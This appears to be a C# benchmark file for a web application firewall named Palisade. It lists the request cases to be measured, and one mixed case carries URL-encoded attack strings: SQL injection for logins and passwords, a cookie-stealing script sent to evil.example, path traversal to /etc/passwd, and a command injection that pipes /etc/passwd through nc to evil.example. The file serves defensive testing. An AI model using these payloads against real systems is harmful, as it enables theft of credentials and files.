using Palisade.Bench.Requests;

namespace Palisade.Bench.SideBySide.Cases;

/// <summary>All cases, in the order they are measured.</summary>
internal static class CaseList
{
    /// <summary>The one list.</summary>
    public static IReadOnlyList<Case> All { get; } =
    [
        new("get", "browser GET with four arguments", [Harmless.Get], new Floors(15, 2.5)),
        new("form", "form POST with eight fields", [Harmless.Form], new Floors(15, 2.5)),
        new("json", "JSON body of 8 KiB with 300 values", [Harmless.Json], new Floors(100)),
        new("upload", "multipart upload of 1 MiB", [Harmless.Upload], new Floors(10)),
        new("page", "HTML response of 50 KB, inspected", [Harmless.Page], new Floors(10)),
        new("mix", "mix with 5 % attacks", Mix(), new Floors(10)),
        new("arguments", "form POST with 100 arguments of 1 KB", [Harmless.Arguments], new Floors(10)),
    ];

    // 40 requests: 2 attacks, 24 GETs, 8 forms, 3 pages, 2 JSON bodies and 1 upload; twice, for four kinds of attack.
    private static Request[] Mix() =>
    [
        .. Half(
            BrowserText.Get("SQL injection", "/garden/search?q=chair%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20users--%20&page=1", isAttack: true),
            BrowserText.Form("cross-site scripting", "/account/address", "first_name=Ann&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3F%27%2Bdocument.cookie%3C%2Fscript%3E", isAttack: true)),
        .. Half(
            BrowserText.Get("path traversal", "/download?file=../../../../etc/passwd", isAttack: true),
            BrowserText.Form("command injection", "/tools/ping", "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd%7Cnc+evil.example+4444", isAttack: true)),
    ];

    private static IEnumerable<Request> Half(Request one, Request other)
    {
        for (var i = 0; i < 8; i++)
        {
            yield return Harmless.Get;
            yield return Harmless.Form;
            yield return Harmless.Get;
            yield return i switch { 1 => one, 5 => other, 2 or 6 => Harmless.Json, 3 => Harmless.Upload, _ => Harmless.Page };
            yield return Harmless.Get;
        }
    }
}
